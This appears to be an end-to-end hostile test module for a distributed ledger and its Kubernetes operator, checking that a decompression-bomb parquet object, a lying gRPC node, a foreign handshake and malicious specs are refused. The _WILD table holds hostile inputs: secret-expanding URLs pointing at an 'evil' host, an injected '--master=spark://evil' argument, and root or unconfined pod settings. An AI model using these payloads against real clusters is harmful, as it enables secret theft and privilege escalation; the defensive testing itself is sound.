"""Attacks that need no group: on an empty replica, by a hostile store, by a user's own objects."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, Final

import grpc
import pyarrow as pa
import pyarrow.parquet as pq
from crc32c import crc32c

from dledger.broker.commands import CreateTopic
from dledger.rpc.pb import dledger_pb2 as pb
from dledger.store.format import encode_records
from dledger.types import Entry, EntryKind
from dledger_operator.cluster import nodes
from dledger_operator.decisions.checks import problems
from dledger_operator.observed.observed import Observed, Pod
from dledger_operator.resources import Platform, desired
from dledger_pipeline.archive.archive import ManifestRow, object_name
from dledger_pipeline.archive.catalog import publish
from dledger_pipeline.archive.manifest import RestorePoint, first_manifest
from dledger_pipeline.archive.queue_offsets import QueueOffsets
from dledger_pipeline.log.messages import decode
from dledger_pipeline.log.records import ENTRY_SCHEMA, RecordBytes, parse
from dledger_pipeline.object_store.store import Store
from e2e.harness.checks import Check, at_most
from e2e.harness.nodes import allocate, node_command, status
from e2e.harness.processes import ChildProcess
from e2e.harness.tasks import meanwhile
from e2e.harness.waiting import eventually
from e2e.hostile.judging import GROWTH_MIB, held
from e2e.hostile.neighbours import raw_produce
from e2e.hostile.peers import handshaken
from e2e.hostile.scene import Scene, memory_mib

_MIB: Final = 1 << 20
_INFLATED_MIB: Final = 256
_ANSWERS_S: Final = 60


def unjoined(work: Path) -> list[Check]:
    """A22: an unknown node of another group opens a handshake with an empty replica."""
    told = str(uuid.uuid4())
    (spec,) = allocate(work, count=1, prefix="a22-")
    scene = Scene(
        endpoints=[spec.endpoint], tls_endpoints=[], admins=[spec.own_address], pids=[],
        leader=0, seconds=1,
    )  # fmt: skip
    settings = {"name": "orders-3", "group": "orders", "replication_port": 0, "group_id": told}
    process = ChildProcess(node_command(spec, settings), work / "a22.log")
    try:
        eventually("the replica answers", lambda: status(spec.own_address), _ANSWERS_S)
        with handshaken(scene, 0, group_id=f"EVIL-{uuid.uuid4()}") as said:
            time.sleep(1)
        joined = scene.status(0).group_id
    finally:
        process.stop(30)
    return [
        held("a22: the unknown node's handshake", said, "refused", isinstance(said, str)),
        held(
            "a22: the group it joined", joined or "none", "not the other one", "EVIL" not in joined
        ),
    ]


def parquet_bomb(work: Path) -> list[Check]:
    """P01: an object of a few KiB with the right hash that inflates to 256 MiB."""
    columns = [
        pa.array([bytes(_INFLATED_MIB * _MIB)], pa.large_binary())
        if each.name == "body"
        else pa.array([int(each.name == "index")], each.type)
        for each in ENTRY_SCHEMA
    ]
    sink = pa.BufferOutputStream()
    pq.write_table(
        pa.Table.from_arrays(columns, schema=ENTRY_SCHEMA), sink, compression="zstd",
        use_dictionary=False,
    )  # fmt: skip
    data = sink.getvalue().to_pybytes()
    sha = hashlib.sha256(data).hexdigest()
    store = Store.open(f"file://{work}/p01")
    row = ManifestRow(
        name=object_name(1, 1, sha), first_index=1, last_index=1, records=1, record_bytes=100,
        object_bytes=len(data), sha256=sha, first_chain=0, last_chain=0, last_term=0,
        first_timestamp_ms=0, last_timestamp_ms=0,
    )  # fmt: skip
    store.create(f"gid/{row.name}", data)
    point = RestorePoint(last_index=1, kept_from=1, as_of_ms=0)
    publish(store, first_manifest("orders", "gid", [row]).seen(point))
    program = (
        "import resource, sys\n"
        "from dledger_pipeline.cli.main import main\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "code = main(sys.argv[1:])\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before >> 10, code)\n"
    )
    ran = subprocess.run(
        [sys.executable, "-c", program, "verify", "--store", f"file://{work}/p01"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    grown, code = (ran.stdout.split() or ["0", "?"])[-2:]
    return [
        held("p01: verify", f"exit code {code}", "refused", code not in ("0", "?")),
        at_most("p01: growth of verify", float(grown), 2 * GROWTH_MIB, "MiB"),
    ]


def poison_in_a_backup(work: Path) -> list[Check]:
    """P02: an archive with a message whose id is no text; the others are read all the same."""
    del work
    bodies = [
        CreateTopic(name="t", type="NORMAL", queues=2).encode(),
        raw_produce(b"t", b"a"), raw_produce(b"t", b"\xff\xfe"), raw_produce(b"t", b"c"),
    ]  # fmt: skip
    log = [
        Entry(term=1, index=n, kind=EntryKind.DATA, timestamp_ms=5, crc32c=crc32c(b), data=b)
        for n, b in enumerate(bodies, 1)
    ]
    records = b"".join(encode_records(log, chain=0, position=0).buffers)
    entries = parse(
        RecordBytes(
            segment="s", offset=0, data=records, positions=None, previous_chain=0, first_index=1
        )
    )
    try:
        rows: Any = decode(entries, QueueOffsets().add(entries)).num_rows
    except Exception as error:  # noqa: BLE001 - whatever it is, it is the line's value
        rows = f"{type(error).__name__}: {error}"
    return [held("p02: messages read", rows, "2 at least", rows in (2, 3))]


_WILD: Final[dict[str, dict[str, Any]]] = {
    "expansion": {
        "backup": {
            "store": {"url": "s3://b/$(AWS_SECRET_ACCESS_KEY)", "secretName": "keys",
                      "endpoint": "http://evil/$(AWS_SECRET_ACCESS_KEY)"},
        },
    },
    "options": {"bootstrap": {"recovery": {"store": {"url": "s3://b/p"},
                                           "groupId": "--master=spark://evil"}}},
    "root": {"securityContext": {"runAsNonRoot": False, "runAsUser": 0}},
    "unconfined": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}},
    "priority": {"priorityClassName": "system-node-critical"},
    "networks": {"podAnnotations": {"k8s.v1.cni.cncf.io/networks": "kube-system/host"}},
}  # fmt: skip


def confused_deputy(work: Path) -> list[Check]:
    """K01: what a spec may ask of the pods, and of the kubelet's expansion."""
    del work
    platform = Platform(image="dledger:x", spark_image="spark:x")
    lines = []
    for name, spec in _WILD.items():
        metadata = {"namespace": "shop", "name": "orders", "uid": "u-1", "generation": 1}
        group = platform.group({"metadata": metadata, "spec": spec, "status": {}})
        said = [problem.message for problem in problems(group, Observed())]
        if not said:
            json.dumps([dict(each) for each in desired(group, platform)])
        lines.append(held(f"k01: {name}", "; ".join(said) or "accepted", "refused", bool(said)))
    return lines


class _Liar(grpc.GenericRpcHandler):  # type: ignore[misc]
    """Answers whatever it is asked with two million empty members."""

    def __init__(self, raw: bytes) -> None:
        self._raw = raw

    def service(self, details: Any) -> Any:
        """Answer any method."""
        del details
        return grpc.unary_unary_rpc_method_handler(lambda _, __: self._raw)


def lying_node(work: Path) -> list[Check]:
    """K02: a tenant's node answers the operator's Status with 4 MiB of members."""
    del work
    field = pb.StatusResponse.DESCRIPTOR.fields_by_name["members"].number
    answer = pb.StatusResponse(node_id="n", name="orders-0", group="orders", role="leader", term=1)
    raw = answer.SerializeToString() + bytes([field << 3 | 2, 0]) * (2 * _MIB)
    server = grpc.server(
        ThreadPoolExecutor(2), handlers=(_Liar(raw),),
        options=(("grpc.max_send_message_length", -1),), compression=grpc.Compression.Gzip,
    )  # fmt: skip
    host = "127.0.0.77"
    server.add_insecure_port(f"{host}:20911")
    server.start()
    before = memory_mib(os.getpid()) or 0.0
    try:
        still_s, members = asyncio.run(_looked(host))
    finally:
        server.stop(0)
    grown = (memory_mib(os.getpid()) or 0.0) - before
    return [
        held("k02: members believed", members, "64 at most", members <= 64),
        at_most("k02: growth of the operator", round(grown, 1), GROWTH_MIB, "MiB"),
        at_most("k02: its loop stood still", round(still_s, 2), 2.0, "s"),
    ]


async def _looked(host: str) -> tuple[float, int]:
    """Let the operator look at the node; return how long its loop stood still, and the members."""
    worst_s = 0.0

    async def pulse() -> None:
        nonlocal worst_s
        while True:
            began_s = time.monotonic()
            await asyncio.sleep(0.05)
            worst_s = max(worst_s, time.monotonic() - began_s - 0.05)

    seen = nodes.Nodes("orders")
    try:
        async with meanwhile(pulse()):
            found = await seen.poll({"orders-0": Pod(name="orders-0", ip=host)})
    finally:
        await seen.close()
    return worst_s, max((len(view.members) for view in found.values()), default=0)


ALONE: Final[dict[str, Callable[[Path], list[Check]]]] = {
    "a22": unjoined,
    "k01": confused_deputy,
    "k02": lying_node,
    "p01": parquet_bomb,
    "p02": poison_in_a_backup,
}
"""Those that need no running group."""
